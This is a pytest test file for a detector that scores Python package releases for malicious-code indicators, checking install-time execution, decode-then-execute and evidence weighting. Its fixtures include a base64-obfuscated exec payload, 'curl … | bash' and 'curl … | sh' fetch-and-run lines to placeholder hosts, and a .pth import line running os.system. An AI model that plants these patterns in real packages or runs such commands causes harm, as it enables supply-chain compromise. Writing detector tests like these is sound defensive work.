"""The code group over whole releases."""

from collections.abc import Mapping

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from xxhash import xxh3_128_digest

from features.code.aggregate import code_columns
from features.code.tokens import CAP
from features.contract import Dtype, FileType, GroupRow, Kind, Member, Release, Role, Scalar
from features.groups.code import CodeGroup
from features.reference.known_code import KnownCode, index_key
from features.runtime.cache import caches, clear_caches
from features.text.indicators import INDICATORS

GROUP = CodeGroup()
INNER = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=="
PAYLOAD = f"import base64\nexec(base64.b64decode('{INNER}'))\n"
BENIGN = "import json\n\n\ndef load(path):\n    with open(path) as stream:\n        return json.load(stream)\n" * 20


def member(
    path: str, text: str | bytes, role: Role = Role.REST, file_type: FileType = FileType.PYTHON, **more: object
) -> Member:
    data = text.encode() if isinstance(text, str) else text
    return Member(path, len(data), file_type, role, data=data, head=data[:4096], **more)  # type: ignore[arg-type]


def extract(*members: Member, deadline: float = float("inf")) -> GroupRow:
    return GROUP.extract(Release("a-1.tar.gz", "a", "1", Kind.SDIST, "tar", 1, members, root="a-1/", deadline=deadline))


def number(values: Mapping[str, Scalar], name: str) -> float:
    value = values[name]
    assert value is not None
    return value


def check(row: GroupRow) -> None:
    assert tuple(row.values) == tuple(column.name for column in GROUP.columns)
    for column in GROUP.columns:
        value = row.values[column.name]
        assert type(value) is (float if column.dtype is Dtype.FLOAT32 else int), column.name
        assert -(2**31) <= value < 2**31


def test_columns_are_named_once_and_have_meanings():
    names = [column.name for column in GROUP.columns]
    assert len(names) == len(set(names))
    assert all(name.startswith("code_") for name in names)
    assert all(len(column.meaning.split()) >= 3 for column in GROUP.columns)
    for indicator in INDICATORS:
        assert {f"code_{role}_{indicator.id}" for role in Role} <= set(names)


def test_an_empty_release_has_zeros_and_no_tokens():
    row = extract()
    check(row)
    assert not any(row.values.values())
    assert (row.tokens, row.evidence, row.limits) == ((), (), ())


@pytest.mark.parametrize("role", list(Role))
def test_place_is_meaning(role):
    row = extract(member("a-1/x.py", PAYLOAD, role))
    check(row)
    assert number(row.values, f"code_{role}_category_execution") >= 1
    assert row.values[f"code_{role}_combo_encoding_execution"] == 1
    assert row.values[f"code_{role}_finding_decode_then_execute"] == 1
    assert row.values[f"code_{role}_unpacked_layers"] == 1
    for other in set(Role) - {role}:
        assert not any(value for name, value in row.values.items() if name.startswith(f"code_{other}_"))


def test_the_payload_line_is_the_first_evidence():
    benign = [member(f"a-1/a/m{n}.py", BENIGN) for n in range(30)]
    row = extract(*benign, member("a-1/a/deep/inside.py", BENIGN + PAYLOAD))
    first = row.evidence[0]
    assert (first.member, first.line) == ("a-1/a/deep/inside.py", 122)
    assert "b64decode" in first.excerpt


def test_one_bad_file_does_not_drown():
    benign = [member(f"a-1/a/m{n}.py", BENIGN) for n in range(100)]
    clean, mixed = extract(*benign), extract(*benign, member("a-1/a/x.py", PAYLOAD))
    assert clean.values["code_top_isolation"] == 0
    assert number(mixed.values, "code_top_isolation") > 3
    assert mixed.values["code_top_share"] == 1
    assert number(mixed.values, "code_rest_top_size_share") < 0.02


def test_tests_and_documentation_weigh_less_and_count():
    inside, aside = extract(member("a-1/a/x.py", PAYLOAD)), extract(member("a-1/tests/x.py", PAYLOAD))
    assert aside.values["code_top_weight"] == number(inside.values, "code_top_weight") > 0
    assert aside.values["code_top_weight_main"] == 0
    assert aside.evidence[0].weight < inside.evidence[0].weight


def test_install_weighs_more_than_import_than_rest():
    weights = [extract(member("a-1/x.py", PAYLOAD, role)).evidence[0].weight for role in Role]
    assert weights == sorted(weights, reverse=True)
    assert len(set(weights)) == 3


def test_prose_is_no_code():
    row = extract(member("a-1/README.md", PAYLOAD, file_type=FileType.TEXT))
    assert row.values["code_source_files"] == 0
    assert number(row.values, "code_prose_category_execution") >= 1
    assert row.values["code_rest_category_execution"] == 0


def test_text_that_setup_reads_is_code():
    row = extract(member("a-1/README.md", PAYLOAD, Role.INSTALL, FileType.TEXT))
    assert row.values["code_install_finding_decode_then_execute"] == 1
    assert row.values["code_prose_files"] == 0


def test_scripts_have_their_own_place():
    row = extract(member("a-1/x.sh", "curl -s http://192.0.2.1/a | bash\n", file_type=FileType.TEXT))
    assert row.values["code_text_files"] == 1
    assert number(row.values, "code_text_top_weight") > 0
    assert row.evidence[0].member == "a-1/x.sh"


def test_only_import_lines_of_a_path_file_run():
    runs = extract(member("a-1/x.pth", "/opt/lib\nimport os; os.system('id')\n", Role.INSTALL, FileType.PTH))
    rests = extract(member("a-1/x.pth", "/opt/lib\nos.system('id')\n", Role.INSTALL, FileType.PTH))
    assert runs.values["code_install_finding_install_time_process"] == 1
    assert rests.values["code_install_finding_install_time_process"] == 0
    assert {e.line for e in runs.evidence} == {2}


def test_modules_without_indicators_are_not_read_by_their_syntax():
    row = extract(member("a-1/a/m.py", BENIGN), member("a-1/a/__init__.py", BENIGN, Role.IMPORT))
    assert row.values["code_rest_syntax_files"] == 0
    assert row.values["code_import_syntax_files"] == 1


def test_a_deadline_is_a_limit():
    row = extract(member("a-1/setup.py", PAYLOAD, Role.INSTALL), deadline=0)
    check(row)
    assert row.limits == ("seconds",)
    assert row.values["code_not_examined"] == 1


def test_too_much_source_is_a_limit():
    big = "exec(base64.b64decode(x))\n" + "#" * 1_040_000 + "\n"
    row = extract(*(member(f"a-1/m{n}.py", big, Role.IMPORT) for n in range(9)))
    assert "syntax_total_bytes" in row.limits
    assert number(row.values, "code_not_read") >= 1


@pytest.mark.parametrize("data", ["exec(1)".encode("utf-16"), b"# coding: utf-7\nexec(1)"])
def test_odd_encodings_are_counted(data):
    row = extract(member("a-1/setup.py", data, Role.INSTALL))
    assert row.values["code_bad_encoding"] == 1
    assert row.values["code_install_call_execute_code"] == 1


def test_evidence_is_bounded_and_ordered():
    lines = "\n".join(f"import os\nos.system('echo {n} | bash')" for n in range(200))
    row = extract(*(member(f"a-1/m{n}.py", lines, Role.IMPORT) for n in range(4)))
    weights = [e.weight for e in row.evidence]
    assert weights == sorted(weights, reverse=True)
    assert len(row.evidence) == 24
    assert all(len(e.excerpt) <= 200 for e in row.evidence)


def test_counts_are_capped():
    row = extract(member("a-1/setup.py", "import os\n" + "os.system('x')\n" * 5000, Role.INSTALL))
    assert 0 < number(row.values, "code_install_os_system") <= 255


def test_tokens_of_what_is_interesting_come_first():
    plain = member("a-1/a/m.py", BENIGN)
    assert extract(plain).tokens != ()
    assert extract(plain, member("a-1/a/x.py", PAYLOAD)).tokens == extract(member("a-1/a/x.py", PAYLOAD)).tokens


@settings(max_examples=60)
@given(
    st.lists(
        st.tuples(st.binary(max_size=200), st.sampled_from(list(Role)), st.sampled_from(list(FileType))), max_size=4
    )
)
def test_any_release_has_a_row(files):
    check(extract(*(member(f"a-1/f{n}", data, role, file_type) for n, (data, role, file_type) in enumerate(files))))


def digested(path: str, text: str, role: Role = Role.REST) -> Member:
    return member(path, text, role, digest=xxh3_128_digest(text.encode()))


CARRIED = digested("a-1/victim/run.py", PAYLOAD + "# " + "carried " * 20)
ADDED = digested("a-1/victim/new.py", "import os\nos.system('id')\n")
VICTIM = CodeGroup(KnownCode.of({"victim": {index_key(CARRIED)}}))


def subtracted(*members: Member) -> GroupRow:
    return VICTIM.extract(Release("a-1.tar.gz", "a", "1", Kind.SDIST, "tar", 1, members, root="a-1/"))


def test_what_another_project_published_is_left_out_of_the_unknown_and_of_nothing_else():
    row = subtracted(CARRIED, ADDED)
    check(row)
    assert row.values["code_rest_files"] == 2
    assert row.values["code_rest_finding_decode_then_execute"] == 1
    assert row.values["code_unknown_files"] == 1
    assert row.values["code_unknown_finding_decode_then_execute"] == 0
    assert 0 < number(row.values, "code_unknown_weight_share") < 1
    alone = subtracted(ADDED).values
    unknown = [name for name in row.values if name.startswith("code_unknown_") and name != "code_unknown_weight_share"]
    assert [row.values[name] for name in unknown] == [alone[name] for name in unknown]


@pytest.mark.parametrize("role", list(Role))
def test_where_nothing_is_known_the_unknown_is_the_whole(role):
    values = subtracted(digested("a-1/x.py", PAYLOAD, role), digested("a-1/y.py", BENIGN, role)).values
    both = [name for name in values if name.startswith("code_unknown_") and f"code_{role}_{name[13:]}" in values]
    assert len(both) > 60
    assert {n: values[n] for n in both} == {n: values[f"code_{role}_{n[13:]}"] for n in both}
    assert (
        values["code_unknown_weight"] == values["code_unknown_" + role + "_weight"] == number(values, "code_weight") > 0
    )
    assert values["code_unknown_weight_share"] == 1.0


def test_known_code_is_not_where_to_look_first():
    own = {e.line: e.weight for e in extract(CARRIED).evidence}
    carried = {e.line: e.weight for e in subtracted(CARRIED).evidence}
    assert carried.keys() == own.keys()
    assert all(carried[line] == pytest.approx(0.3 * own[line], rel=0.01, abs=0.01) for line in own)


def test_the_tokens_of_inner_modules_are_those_of_the_unknown_first():
    many = digested("a-1/victim/big.py", PAYLOAD + "".join(f"os.system(name_{n}.call_{n})\n" for n in range(400)))
    group = CodeGroup(KnownCode.of({"victim": {index_key(many)}}))
    release = Release("a-1.tar.gz", "a", "1", Kind.SDIST, "tar", 1, (many, ADDED), root="a-1/")
    assert set(extract(ADDED).tokens) <= set(group.extract(release).tokens)
    assert len(group.extract(release).tokens) == CAP


def test_the_version_follows_the_index():
    assert VICTIM.version != GROUP.version


def test_a_long_import_file_without_indicators_is_read_where_it_may_act():
    filler = "".join(f"def harmless_{n}(a):\n    return a + {n}\n" for n in range(400))
    quiet = extract(member("a-1/a/__init__.py", filler, Role.IMPORT))
    acting = extract(member("a-1/a/__init__.py", filler + "from os import system as s\ns('id')\n", Role.IMPORT))
    assert 0 == quiet.values["code_import_syntax_files"]
    assert 1 == acting.values["code_import_syntax_files"]
    assert acting.values["code_import_call_execute_process"] == 1


WHEEL = (
    member("a/__init__.py", PAYLOAD, Role.IMPORT),
    member("a-1.dist-info/METADATA", "Name: a\n", file_type=FileType.METADATA),
)


def record(text: str) -> Member:
    return member("a-1.dist-info/RECORD", text, file_type=FileType.METADATA)


def test_wheels_that_differ_in_their_lists_alone_share_a_summary():
    clear_caches()
    first = extract(*WHEEL, record("a/__init__.py,sha256=one,9\n"))
    before = caches()["code_summaries"].hits
    assert extract(*WHEEL, record("a/__init__.py,sha256=two,9\n")) == first
    assert caches()["code_summaries"].hits == before + 1


@pytest.mark.parametrize(
    "other",
    [
        (*WHEEL, record("a/__init__.py,sha256=one,9\ncurl https://x.example/a | sh\n")),
        (
            WHEEL[0],
            member("a-1.dist-info/METADATA", "Name: a\neval(x)\n", file_type=FileType.METADATA),
            record("a,b,9\n"),
        ),
        (WHEEL[0], WHEEL[1], member("a-1.dist-info/RECORD", "a,b,9\n", file_type=FileType.TEXT)),
        (member("a/__init__.py", PAYLOAD, Role.REST), *WHEEL[1:], record("a,b,9\n")),
        (member("b/__init__.py", PAYLOAD, Role.IMPORT), *WHEEL[1:], record("a,b,9\n")),
        (*WHEEL, record("a,b,9\n"), member("a-1.dist-info/entry_points.txt", "", file_type=FileType.METADATA)),
    ],
)
def test_what_decides_a_summary_makes_another_one(other):
    clear_caches()
    extract(*WHEEL, record("a,b,9\n"))
    known = caches()["code_summaries"].hits
    remembered = extract(*other)
    assert caches()["code_summaries"].hits == known
    clear_caches()
    assert extract(*other) == remembered


def test_an_entry_file_decides_by_its_content():
    entries = [
        member("a-1.dist-info/entry_points.txt", f"[console_scripts]\na = a.{name}:go\n", file_type=FileType.METADATA)
        for name in ("one", "two")
    ]
    files = [member("a/one.py", f"def go():\n    pass\n{PAYLOAD}"), member("a/two.py", "def go():\n    pass\n")]
    bad, good = (extract(*files, entry).values["code_reached_script_findings"] for entry in entries)
    assert bad
    assert not good


def test_what_the_deadline_ended_is_not_kept(monkeypatch):
    clear_caches()
    clock = [0.0]
    monkeypatch.setattr("time.process_time", lambda: clock[0])

    def late(sources):
        clock[0] = 2.0
        return code_columns(sources)

    with monkeypatch.context() as patch:
        patch.setattr("features.code.release_summary.code_columns", late)
        cut = extract(*WHEEL, deadline=1.0)
    clock[0] = 0.0
    whole = extract(*WHEEL, deadline=1.0)
    assert cut != whole
    clear_caches()
    assert extract(*WHEEL, deadline=1.0) == whole
